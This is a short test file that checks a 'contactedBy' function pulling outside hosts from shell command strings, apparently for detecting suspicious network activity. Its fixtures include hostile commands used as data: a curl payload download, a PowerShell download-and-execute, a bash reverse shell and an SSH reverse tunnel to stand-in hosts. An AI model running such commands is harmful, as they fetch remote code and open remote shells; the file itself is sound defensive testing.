import { expect, it } from 'vitest';
import { contactedBy } from './contacts';

it.each([
  ['curl -s http://198.51.100.78:8080/l.sh -o /tmp/.l', ['198.51.100.78']],
  ['powershell -c "IEX (iwr \'https://a:b@Cdn.Bad.example/x.ps1\')"', ['cdn.bad.example']],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['203.0.113.9']],
  ['ssh -R 9000:localhost:22 root@203.0.113.9', ['203.0.113.9']],
  ['curl http://10.0.0.8/health', []],
  ['cat /etc/nginx.conf.d/site.conf', []],
  ['tool --version 1.2.3.4.5', []],
])('finds the hosts outside that %s names', (command, hosts) => {
  expect(contactedBy(command)).toEqual(hosts);
});
